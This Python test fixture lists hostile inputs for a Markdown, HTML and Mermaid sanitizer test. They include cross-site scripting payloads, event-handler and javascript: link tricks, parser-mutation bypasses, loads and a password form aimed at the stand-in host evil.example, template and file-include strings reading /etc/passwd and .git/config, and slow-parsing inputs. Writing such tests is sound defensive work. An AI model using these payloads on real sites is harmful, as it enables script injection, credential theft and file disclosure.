"""Texts that try to run, fetch or imitate something in a reader's browser, by what they try; written for this test."""

from typing import Final

AWAY: Final = "evil.example"
"""The host that everything hostile asks for; nothing must ever ask for it."""
_RUN: Final = "window.pwned=1"
_ELEMENTS: Final = {
    "script": f"<script>{_RUN}</script>",
    "script-src": f'<script src="https://{AWAY}/x.js"></script>',
    "script-split": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script-case": f"<ScRiPt\n>{_RUN}</sCrIpT >",
    "script-slash": f"<script/x>{_RUN}</script/x>",
    "script-unclosed": f"<script>{_RUN}//",
    "script-module": f'<script type="module">{_RUN}</script>',
    "script-in-list": f"- a\n\n    <script>{_RUN}</script>\n",
    "script-in-table": f"| a |\n|---|\n| <script>{_RUN}</script> |",
    "script-in-quote": f"> <script>{_RUN}</script>",
    "script-in-heading": f"# <script>{_RUN}</script>",
    "script-in-code-end": f"```html\n</code></pre><script>{_RUN}</script>\n```",
    "script-in-span-end": f"`</code><script>{_RUN}</script>`",
    "script-in-comment": f"<!--><script>{_RUN}</script>-->",
    "script-in-comment-bang": f"<!--[if IE]><script>{_RUN}</script><![endif]--!><script>{_RUN}</script>",
    "script-in-cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
    "script-in-instruction": f"<?x ?><script>{_RUN}</script>",
    "script-after-nul": f"<\u00a0script>{_RUN}</script><script\u3000>{_RUN}</script>",
    "handler-image": f'<img src=x onerror="{_RUN}">',
    "handler-slash": f"<img/src=x/onerror={_RUN}>",
    "handler-tick": f"<img src=`x`onerror={_RUN}>",
    "handler-newline": f"<img src=x\nonerror\n=\n{_RUN}>",
    "handler-svg": f'<svg onload="{_RUN}"></svg>',
    "handler-body": f"<body onload={_RUN}>",
    "handler-focus": f'<p tabindex=0 autofocus onfocus="{_RUN}">x</p>',
    "handler-input": f'<input autofocus onfocus="{_RUN}">',
    "handler-details": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "handler-video": f'<video><source onerror="{_RUN}"></video>',
    "handler-audio": f'<audio src=x onerror="{_RUN}"></audio>',
    "handler-marquee": f'<marquee onstart="{_RUN}">x</marquee>',
    "handler-animation": f'<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart="{_RUN}">x</p>',
    "handler-scroll": f'<div onscroll="{_RUN}" style="overflow:auto;height:1px"><br><br></div>',
    "handler-object": f'<object data=x onerror="{_RUN}"></object>',
    "handler-select": f'<select autofocus onfocus="{_RUN}"></select>',
    "handler-pointer": f'<a onpointerover="{_RUN}" href="#x">x</a>',
    "handler-popover": f'<button popovertarget=x>a</button><p popover id=x onbeforetoggle="{_RUN}">b</p>',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{_RUN}"/><text>x</text></a></svg>',
    "svg-set": '<svg><set attributeName=onmouseover to="window.pwned=1"></svg>',
    "svg-use": f'<svg><use href="https://{AWAY}/x.svg#a"/></svg>',
    "svg-image": f'<svg><image href="https://{AWAY}/x.png"/></svg>',
    "svg-foreign": f'<svg><foreignObject><iframe srcdoc="<script>top.{_RUN}</script>"></iframe></svg>',
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "svg-style": f"<svg><style>@import url(https://{AWAY}/x.css);</style></svg>",
    "iframe": f'<iframe src="https://{AWAY}/"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    "frameset": f'<frameset><frame src="https://{AWAY}/"></frameset>',
    "object": f'<object data="https://{AWAY}/x.swf"></object>',
    "embed": f'<embed src="https://{AWAY}/x.swf">',
    "applet": f'<applet code="https://{AWAY}/x"></applet>',
    "portal-element": f'<portal src="https://{AWAY}/"></portal>',
    "base": f'<base href="https://{AWAY}/">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=https://{AWAY}/">',
    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">',
    "link-style": f'<link rel="stylesheet" href="https://{AWAY}/x.css">',
    "link-prefetch": f'<link rel="prefetch" href="https://{AWAY}/x"><link rel="dns-prefetch" href="//{AWAY}">',
    "link-import": f'<link rel="import" href="https://{AWAY}/x.html">',
    "form": f'<form action="https://{AWAY}/"><input name=password type=password><button>Sign in</button></form>',
    "form-outside": f'<button form=x formaction="https://{AWAY}/">x</button>',
    "input-image": f'<input type=image src="https://{AWAY}/x.png">',
    "isindex": f'<isindex action="javascript:{_RUN}" type=image>',
    "style": f'<style>@import "https://{AWAY}/x.css";body{{display:none}}</style>',
    "style-attribute": f'<p style="background:url(https://{AWAY}/x.png);position:fixed;inset:0">x</p>',
    "style-expression": f'<p style="width:expression({_RUN})">x</p>',
    "background": f'<table background="https://{AWAY}/x.png"><tr><td background="//{AWAY}/y.png">x</td></tr></table>',
    "image": f'<img src="https://{AWAY}/x.png">',
    "image-srcset": f'<img srcset="https://{AWAY}/x.png 1x"><picture><source srcset="//{AWAY}/y.png"></picture>',
    "image-lazy": f'<img loading=lazy src="//{AWAY}/x.png">',
    "video-poster": f'<video poster="https://{AWAY}/x.png" src="https://{AWAY}/x.mp4" autoplay></video>',
    "track": f'<video><track default src="https://{AWAY}/x.vtt"></video>',
    "ping": f'<a href="#x" ping="https://{AWAY}/">x</a>',
    "quote-cite": f'<blockquote cite="https://{AWAY}/">x</blockquote>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "template": f"<template><script>{_RUN}</script></template>",
    "template-shadow": f'<div><template shadowrootmode=open><img src=x onerror="{_RUN}"></template></div>',
    "plaintext": "<plaintext>the rest of the page",
    "textarea": f"<textarea></textarea><img src=x onerror={_RUN}>",
    "title": f"<title></title><img src=x onerror={_RUN}>",
    "xmp": f"<xmp></xmp><img src=x onerror={_RUN}>",
    "math-mutation": f'<math><mtext><table><mglyph><style><!--</style><p title="--&gt;&lt;img onerror={_RUN}&gt;">',
    "math-href": f'<math><maction actiontype="statusline#//{AWAY}" xlink:href="javascript:{_RUN}">x</maction>',
    "svg-mutation": f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
    "form-mutation": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    "select-mutation": f'<select><template><style><!--</style></select><a rel="--><img src=x onerror={_RUN}>">',
    "clobber": '<p id="_content" name="body" class="x y"><a id=location name=location>x</a><img name=cookie></p>',
    "closing": "</main></div></body></html><h1>Our own page</h1>",
    "dialog": "<dialog open>Sign in again</dialog>",
    "custom-element": f'<x-y onclick="{_RUN}" is="x-y">x</x-y>',
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62;",
    "double-encoded": f"&amp;lt;img src=x onerror={_RUN}&amp;gt; %3Cscript%3E{_RUN}%3C/script%3E",
    "half-tag": f'<p title="a>b<img src=x onerror={_RUN}>" x',
    "attribute-list": f'x {{: onclick="{_RUN}" style="background:url(//x)" }}\n\n# h {{ #_content onload={_RUN} }}',
    "markdown-in-html": f'<div markdown="1"><script>{_RUN}</script></div>',
    "admonition": f'!!! note "<img src=x onerror={_RUN}>"\n    <script>{_RUN}</script>',
    "jinja": "{{ config.__class__.__mro__ }} {% for x in range(9) %}x{% endfor %} {% include '/etc/passwd' %}",
    "snippet": '--8<-- "/etc/passwd"\n\n;--8<-- ".git/config"\n\n[include](/etc/passwd)',
    "front-matter": f"---\ntitle: <script>{_RUN}</script>\ntemplate: x.html\n---\nx",
    "raw-placeholder": f"wzxhzdk:0 klzzwxh:0000 <b><script>{_RUN}</script></b>",
}
_LINKS: Final = {
    "javascript": "[x](javascript:window.pwned=1)",
    "javascript-case": "[x](JaVaScRiPt:window.pwned=1)",
    "javascript-entity": "[x](java&#115;cript:window.pwned=1) [y](javascript&colon;window.pwned=1)",
    "javascript-tab": '<a href="java\tscript:window.pwned=1">x</a> <a href="java\nscript:window.pwned=1">y</a>',
    "javascript-blank": '<a href=" javascript:window.pwned=1">x</a> [y](< javascript:window.pwned=1>)',
    "javascript-reference": "[x][1]\n\n[1]: javascript:window.pwned=1",
    "javascript-auto": "<javascript:window.pwned=1>",
    "javascript-comment": "[x](javascript://https://a.example/%0awindow.pwned=1)",
    "javascript-image-link": "[![x](x.png)](javascript:window.pwned=1)",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=) [y](data:text/html,<script>window.pwned=1</script>)",
    "vbscript": "[x](vbscript:msgbox)",
    "file": "[x](file:///etc/passwd) [y](blob:null/x) [z](filesystem:x) [v](view-source:x)",
    "other-site": f"[x](//{AWAY}) [y](/\\{AWAY}) [z](\\\\{AWAY}) [w](/\t/{AWAY})",
    "title-breakout": '[x](https://a.example "\\" onmouseover=window.pwned=1 x=\\"")',
    "address-breakout": '[x](https://a.example/"onmouseover="window.pwned=1) [y](<https://a.example/"><script>window.pwned=1</script>>)',
    "image": f"![x](https://{AWAY}/x.png) ![y][1]\n\n[1]: https://{AWAY}/y.png",
    "image-breakout": '![" onerror="window.pwned=1](x) ![x](x" onerror="window.pwned=1)',
    "mail-breakout": '<x@a.example?"onclick="window.pwned=1> [m](mailto:a@b.example?body=%3Cscript%3E)',
}
_DRAWN: Final = f"""
label
flowchart LR
  a["<img src=x onerror={_RUN}>"] --> b["<script>{_RUN}</script>"]
--
label-entity
flowchart LR
  a["#lt;img src=x onerror={_RUN}#gt;"] --> b["#60;img src=x onerror={_RUN}#62;"]
--
label-html-entity
flowchart LR
  a["&lt;img src=x onerror={_RUN}&gt;"] --> b["&#x3c;img src=x onerror={_RUN}>"]
--
label-markdown
flowchart LR
  a["`<img src=x onerror={_RUN}> **b**`"] -- "<svg onload={_RUN}>" --> b
--
label-break
flowchart LR
  a["x<br/onclick={_RUN}>y"] --> b["<br><br/>x"]
--
class
classDiagram
  class A {{ <<interface>> }}
  A : +x(<img src=x onerror={_RUN}>)
--
formula
flowchart LR
  a["$$\\href{{javascript:{_RUN}}}{{x}}$$"] --> b
--
pie
pie title <img src=x onerror={_RUN}>
  "<img src=x onerror={_RUN}>" : 1
--
click
flowchart LR
  a --> b
  click a call alert(1)
  click b href "javascript:{_RUN}"
--
init
%%{{init: {{'securityLevel': 'loose', 'themeCSS': '@import url(https://{AWAY}/x.css);'}}}}%%
flowchart LR
  a --> b
--
config
---
config:
  securityLevel: loose
  fontFamily: "x;}}*{{background:url(https://{AWAY}/)}}"
---
flowchart LR
  a --> b
--
image-shape
flowchart LR
  a@{{ img: "https://{AWAY}/x.png", label: x, h: 60 }}
  a --> b
--
style
flowchart LR
  a --> b
  style a fill:url(https://{AWAY}/x.svg)
  classDef c background:url(https://{AWAY}/y)
--
sequence
sequenceDiagram
  A->>B: <iframe src=javascript:parent.{_RUN}>
  link A: x @ javascript:{_RUN}
--
unreadable
no diagram <img src=x onerror={_RUN}>
"""
_DIAGRAMS: Final = {
    **{
        name: f"```mermaid\n{text}\n```"
        for name, _, text in (each.strip().partition("\n") for each in _DRAWN.split("\n--\n"))
    },
    "class-breakout": f'```mermaid" onload="{_RUN}\nx\n```',
}
SLOW: Final = {
    "brackets": "[" * 8_000,
    "images": "![" * 8_000,
    "cdata": "<![CDATA[" * 2_000,
    "links": "<a href='" * 6_000,
    "divisions": "<div>" * 9_000,
    "nested-list": "\n".join("  " * depth + "- a" for depth in range(200)),
    "quotes": "> " * 5_000 + "a",
    "headings": "# a\n" * 9_000,
}
"""What renderers take long for; the check refuses it, and a site shows it as it is written."""
TEXTS: Final = {
    **{f"element-{name}": text for name, text in _ELEMENTS.items()},
    **{f"link-{name}": text for name, text in _LINKS.items()},
    **{f"diagram-{name}": text for name, text in _DIAGRAMS.items()},
    **{f"slow-{name}": text for name, text in SLOW.items()},
}
"""Every text, by an id that an article may have."""
